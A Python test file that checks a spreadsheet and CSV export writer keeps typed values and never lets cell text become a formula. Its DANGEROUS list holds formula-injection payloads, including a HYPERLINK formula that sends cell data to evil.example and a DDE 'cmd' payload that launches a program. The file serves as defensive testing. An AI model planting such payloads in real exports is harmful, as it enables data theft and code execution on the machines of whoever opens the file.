"""Lists leave for spreadsheets with their types, and no text in them can become a formula."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from situationroom.documents import readers
from situationroom.documents.blocks import Column
from situationroom.documents.sheet_texts import sheet_text
from situationroom.documents.writers import write_table

DANGEROUS = (
    "=1+1",
    "+82-2-110",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠기관",
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+cmd|x!A0",
    "a;=1+1",
    "a\t=1",
)
COLUMNS = (Column("기관"), Column("값", "right"))
_cells = st.text(st.characters(codec="utf-8"), max_size=30) | st.sampled_from(DANGEROUS)


def _xlsx(rows: list[tuple[object, ...]]) -> list[list[object]]:
    content = write_table(COLUMNS, rows, "xlsx").content
    page = load_workbook(BytesIO(content)).active
    assert [c.coordinate for row in page for c in row if c.data_type == "f"] == []
    return [[cell.value for cell in row] for row in page]


def _csv(rows: list[tuple[object, ...]]) -> list[list[str]]:
    text = write_table(COLUMNS, rows, "csv").content.decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline="")))


def test_typed_values_stay_what_they_are() -> None:
    moment = datetime(2026, 11, 22, 0, 5, tzinfo=UTC)
    rows = [
        ("정수", -3), ("소수", 1234.5), ("십진", Decimal("0.10")), ("참", True),
        ("날", date(2026, 11, 22)), ("때", moment), ("없음", None),
    ]  # fmt: skip
    here = moment.replace(hour=9, tzinfo=None)
    head, *read = _xlsx(rows)
    assert head == ["기관", "값"]
    day = datetime.fromisoformat("2026-11-22")
    assert [row[1] for row in read] == [-3, 1234.5, 0.1, True, day, here, None]
    assert [row[1] for row in _csv(rows)[1:]] == [
        "-3", "1234.5", "0.10", "TRUE", "2026-11-22", "2026-11-22 09:05", "",
    ]  # fmt: skip


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_text_becomes_a_formula(text: str) -> None:
    rows = [(text, text)]
    page = load_workbook(BytesIO(write_table(COLUMNS, rows, "xlsx").content)).active
    cell = page["A2"]
    assert cell.data_type == "s"
    assert cell.quotePrefix or not cell.value.startswith(tuple("=+-@＝＋－＠"))
    raw = write_table(COLUMNS, rows, "csv").content.decode("utf-8-sig")
    for line in csv.reader(StringIO(raw, newline="")):
        assert not line[0].startswith(tuple("=+-@\t\r\n＝＋－＠"))
    # Nor is anything cut loose where another separator is believed.
    for separator in ";\t|":
        for line in csv.reader(StringIO(raw, newline=""), delimiter=separator):
            assert not any(field.startswith(tuple("=+@＝＋＠")) for field in line)


def test_a_lone_dash_stays_a_dash() -> None:
    assert _csv([("-", 1)])[1][0] == "-"


@given(st.lists(st.tuples(_cells, _cells), max_size=6))
def test_any_list_comes_back_as_it_was_written(rows: list[tuple[str, str]]) -> None:
    kept = [[_kept(cell) for cell in row] for row in rows]
    content = write_table(COLUMNS, rows, "xlsx").content
    read = readers.read(content, "a.xlsx").grids[0]
    cells = {(cell.row, cell.column): cell.text for cell in read.cells}
    for number, row in enumerate(kept, start=1):
        assert [cells.get((number, column), "") for column in range(2)] == row


@given(st.lists(st.tuples(_cells, _cells), max_size=6))
def test_any_csv_comes_back_but_for_the_quotes_that_keep_it_still(
    rows: list[tuple[str, str]],
) -> None:
    read = readers.read(write_table(COLUMNS, rows, "csv").content, "a.csv").grids[0]
    cells = {(cell.row, cell.column): cell.text for cell in read.cells}
    for number, row in enumerate(rows, start=1):
        for column, text in enumerate(row):
            plain = text.replace("\r\n", "\n").replace("\r", "\n")
            assert cells.get((number, column), "").replace("'", "") == plain.replace("'", "")


def _kept(text: str) -> str:
    return sheet_text(text).replace("_x005F_", "_")


def test_equal_lists_give_equal_bytes_and_wrong_ones_are_refused() -> None:
    rows = [("관세청", 1)]
    for form in ("xlsx", "csv"):
        assert write_table(COLUMNS, rows, form) == write_table(COLUMNS, rows, form)
        with pytest.raises(ValueError, match="a row has 1 cells, there are 2 columns"):
            write_table(COLUMNS, [("관세청",)], form)
    with pytest.raises(ValueError, match="'pdf': known are csv, xlsx"):
        write_table(COLUMNS, rows, "pdf")
    with pytest.raises(ValueError, match="a cell has 40,000 letters and a sheet holds 32,767"):
        write_table(COLUMNS, [("가" * 40_000, 1)], "xlsx")
